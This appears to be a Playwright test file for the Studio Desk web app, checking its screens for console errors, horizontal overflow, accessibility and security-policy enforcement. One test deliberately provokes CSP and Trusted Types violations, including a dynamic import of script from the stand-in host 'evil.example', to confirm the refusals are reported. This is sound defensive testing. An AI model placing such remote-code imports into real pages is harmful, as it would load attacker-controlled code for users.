import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import { paths } from '@studio-desk/shared-contract';
import type { Desk } from '../fixtures/desk';
import { addJudge, addPerson } from '../fixtures/records';
import { expect, signIn, test, type Account } from '../fixtures/test';

type Screen = readonly [path: string, heading: string];
const screens: Screen[] = [
  ['/', 'Companies Dashboard'],
  ['/companies', 'Explore Companies'],
  ['/add-company', 'Add Company'],
  ['/upload', 'Upload Companies'],
  ['/upload?tab=typeform', 'Upload Companies'],
  ['/judges/dashboard', 'Judges Dashboard'],
  ['/judges', 'Explore Judges'],
  ['/judges/add', 'Add Judge'],
  ['/judges/upload', 'Upload Judges'],
  ['/people/dashboard', 'People Dashboard'],
  ['/people', 'Explore People'],
  ['/people/add', 'Add Person'],
  ['/people/upload', 'Upload People'],
];

/** The screens, and those of a record that is there. */
async function screensWith(desk: Desk, account: Account): Promise<Screen[]> {
  const judge = await addJudge(desk, account, {
    name: `Judge ${account.full_name}`,
    email: account.email,
    competitions: [{ name: 'SEC Pitch', month: 'April', year: 2025 }],
  });
  const person = await addPerson(desk, account, { name: `Person ${account.full_name}`, labels: ['founder'] });
  return [
    ...screens,
    [`/judges/edit/${judge.id}`, 'Edit Judge'],
    [`/people/edit/${person.id}`, 'Edit Person'],
  ];
}

/** The tabs of Settings, and what each shows once it has what it asked for. */
const settings = [
  ['reminders', 'Reminders', 'button', 'Send test reminder'],
  ['account', 'Account', 'button', 'Sign Out Everywhere Else'],
  ['appearance', 'Appearance', 'group', 'Appearance'],
] as const;

type Look = readonly [width: number, colorScheme: 'light' | 'dark'];
const looks: Look[] = [
  [1440, 'light'],
  [390, 'dark'],
];

/** Browsers refuse code without a known hash in silence: the console is told. */
const tellUnhashedCode = (page: Page) =>
  page.addInitScript(() => {
    const observer = new ReportingObserver(
      (reports) => reports.forEach(({ type, body }) => console.error(type, JSON.stringify(body))),
      { types: ['integrity-violation'], buffered: true },
    );
    observer.observe();
  });

/** Signs in, then opens each screen in turn. */
async function visitAll(
  page: Page,
  desk: Desk,
  account: Account,
  [width, colorScheme]: Look,
  visit: () => Promise<void>,
) {
  await page.setViewportSize({ width, height: 900 });
  await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
  await tellUnhashedCode(page);
  await page.goto(`${desk.shellUrl}/login`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await visit();
  await signIn(page, desk, account);
  await expect(page.getByText('Login successful!')).toBeHidden();
  for (const [path, heading] of await screensWith(desk, account)) {
    await test.step(heading, async () => {
      await page.goto(`${desk.shellUrl}${path}`);
      await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible();
      await visit();
    });
  }
  for (const [tab, name, role, last] of settings) {
    await test.step(`Settings, ${name}`, async () => {
      await page.goto(`${desk.shellUrl}${paths.settings(tab)}`);
      const dialog = page.getByRole('dialog', { name: 'Team Management' });
      await expect(dialog.getByRole('tab', { name, selected: true })).toBeVisible();
      await expect(dialog.getByRole(role, { name: last })).toBeVisible();
      await visit();
    });
  }
}

for (const look of looks) {
  const name = look.join(' px, ');

  // The console is watched in every test, here on every screen there is.
  test(`every screen is quiet, and nothing scrolls sideways: ${name}`, async ({ page, desk, account }) => {
    test.setTimeout(120_000);
    await visitAll(page, desk, account, look, async () => {
      await expect(page).toHaveTitle(/Studio Desk$/);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      expect(overflow).toBeLessThanOrEqual(0);
    });
  });
}

test('what the policies of the page refuse is seen in the console', async ({ page, desk, allowConsole }) => {
  allowConsole(/Trusted|Content Security Policy|integrity-violation/);
  const errors: string[] = [];
  page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
  await tellUnhashedCode(page);
  await page.goto(`${desk.shellUrl}/login`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(errors).toEqual([]);
  const provoke: Record<string, () => void> = {
    TrustedHTML: () => void (document.createElement('div').innerHTML = '<b>markup</b>'),
    TrustedScript: () => document.body.setAttribute('onclick', 'code()'),
    'script-src': () => void import(String('https://evil.example/x.js')).catch(() => undefined),
    'style-src': () => {
      const style = document.createElement('style');
      style.textContent = '* { color: red }';
      document.head.append(style);
    },
    'integrity-violation': () => void import(String('/remoteEntry.js?other')).catch(() => undefined),
  };
  for (const [words, violate] of Object.entries(provoke)) {
    await page.evaluate(violate).catch(() => undefined);
    await expect.poll(() => errors.join('\n')).toContain(words);
  }
});

test.describe('accessibility', () => {
  // The checker writes styles of its own into the page, which its content security policy refuses.
  test.use({ bypassCSP: true });

  for (const look of looks) {
    test(`every screen passes the checker: ${look.join(' px, ')}`, async ({ page, desk, account }) => {
      test.setTimeout(180_000);
      await visitAll(page, desk, account, look, async () => {
        expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
      });
    });
  }
});
